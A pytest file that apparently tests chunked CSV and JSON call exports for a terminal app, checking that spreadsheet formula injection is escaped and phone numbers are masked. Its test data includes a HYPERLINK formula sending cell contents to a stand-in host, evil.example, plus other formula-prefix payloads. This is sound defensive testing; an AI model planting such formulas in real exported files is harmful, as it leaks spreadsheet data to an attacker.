"""Calls are exported a chunk of columns at a time (issue #9, item 13): whichever way a
chunk goes, the quick way or cell by cell, the file is what the careful path writes."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest

from tests.test_cli_export_safety import HOSTILE, run, seed
from tui.domain.export_cells import csv_cell
from tui.store.exports import CALL_FIELDS, reason_paths, stream_calls

NOTES = [
    *HOSTILE,
    "a~=b ~-1 ~@x",  # what the quick check joins cells with, before formula signs
    "请回电 139 8765 4321, 2026-03-08 前",
    "",
    "plain words",
    "多行\n备注",
    "tab\tinside",
] * 3


def _careful(path: Path) -> str:
    conn = sqlite3.connect(f"{path.as_uri()}?mode=ro", uri=True)
    try:
        records = [r for chunk in stream_calls(conn, reason_paths(conn)) for r in chunk]
    finally:
        conn.close()
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(CALL_FIELDS)
    writer.writerows([[csv_cell(v) for v in record] for record in records])
    return buffer.getvalue()


def test_every_chunk_is_written_as_the_careful_path_writes_it(
    tmp_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tui.store import exports

    # Chunks of three: some plain, some with one hostile note, some with a `~` only.
    monkeypatch.setattr(exports, "CHUNK_ROWS", 3)
    seed(tmp_db, NOTES, caller="+86 138-1234-5678")
    result = run("export", "calls", "--db", str(tmp_db))
    assert result.exit_code == 0, result.output
    assert result.stdout == _careful(tmp_db)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(NOTES)
    assert {row["note"] for row in rows} >= {"a~=b ~-1 ~@x", "plain words", "'+1+2"}
    assert all("\x1b" not in row["note"] for row in rows)


def test_the_json_forms_read_the_same_records(tmp_db: Path) -> None:
    seed(tmp_db, NOTES[:8])
    ndjson = run("export", "calls", "--db", str(tmp_db), "--format", "ndjson").stdout
    array = run("export", "calls", "--db", str(tmp_db), "--format", "json").stdout
    records = [json.loads(line) for line in ndjson.splitlines()]
    assert json.loads(array) == records
    assert [r["note"] for r in records][:3] == [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+2",
        "-2+3",
    ]
    assert {r["caller"] for r in records} == {"1******5678"}
